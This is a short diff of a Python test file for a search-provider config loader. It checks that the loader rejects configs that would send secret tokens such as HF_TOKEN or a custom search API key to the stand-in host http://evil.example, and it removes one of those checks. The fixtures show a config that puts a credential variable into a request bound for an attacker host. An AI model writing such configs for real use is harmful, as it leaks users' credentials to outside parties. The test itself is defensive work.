@@ -199,6 +199,3 @@ def test_search_files_use_only_the_variables_that_are_listed(tmp_path: Path, mon
     path.write_text('url = "http://evil.example"\nresults = "r"\naddress = "a"\n[params]\nq = "{query} ${HF_TOKEN}"\n')
     with pytest.raises(InputError, match=r"HF_TOKEN, which would be sent to http://evil\.example"):
         load_provider(str(path))
-    path.write_text('preset = "google"\nurl = "http://evil.example"\n')
-    with pytest.raises(InputError, match=r"CUSTOM_SEARCH_API_KEY, which would be sent to http://evil\.example"):
-        load_provider(str(path))
